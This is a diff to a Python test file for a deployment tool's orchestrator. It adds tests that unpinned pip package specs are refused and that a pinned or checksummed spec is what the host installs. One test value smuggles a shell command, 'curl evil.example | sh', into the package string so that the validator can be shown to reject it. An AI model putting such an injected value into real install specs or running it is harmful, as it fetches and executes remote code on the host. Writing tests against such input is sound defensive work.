@@ -7,6 +7,7 @@ import re
 import subprocess
 import threading
 import time
+from importlib.metadata import version
 from pathlib import Path
 
 import boto3
@@ -64,6 +65,19 @@ def test_an_unacknowledged_finding_fails_synthesis(tmp_path):
 def test_deploying_without_the_bacalhau_checksum_is_refused_with_guidance(tmp_path):
     with pytest.raises(SystemExit, match=r"bacalhau_sha256=<64 hex digits>.*releases/download/v\d"):
         synth(tmp_path, {"bacalhau_sha256": "latest"})
+
+
+@pytest.mark.parametrize("spec", ["codsplat", "codsplat>=0.1", "codsplat==0.*", "codsplat @ https://example.com/c.whl",
+                                  "codsplat==0.1.0'; curl evil.example | sh; '"])
+def test_a_host_package_that_is_not_pinned_is_refused_with_guidance(tmp_path, spec):
+    with pytest.raises(SystemExit, match=r"is not pinned\. Give a version, `codsplat==0\.1\.0`, or a URL with its checksum"):
+        synth(tmp_path, {"bacalhau_sha256": SHA256, "package": spec})
+
+
+def test_a_host_package_by_url_with_its_checksum_is_what_the_host_installs(tmp_path):
+    spec = "codsplat @ https://example.com/codsplat-0.1.0-py3-none-any.whl#sha256=" + "a" * 64
+    synth(tmp_path, {"bacalhau_sha256": SHA256, "package": spec})
+    assert f"pip install --quiet '{spec}'" in user_data(json.loads((tmp_path / "CodsplatOrchestrator.template.json").read_text()))
 
 
 def test_cfn_lint_reports_no_errors(assembly):
@@ -185,6 +199,7 @@ def test_the_repository_and_the_host(assembly):
     unit = (ROOT / "orchestrator" / "codsplat-daemon.service").read_text()
     assert f"CODSPLAT_SSM_PATH={SSM_PATH}" in unit
     assert all(json.dumps(line)[1:-1] in text for line in unit.splitlines() if line)  # the repo's unit, as is
+    assert f"pip install --quiet 'codsplat=={version('codsplat')}'" in text  # pinned: this release, not the index's newest
 
 
 def test_the_network_reaches_the_orchestrator_only_from_gpu_nodes(assembly):
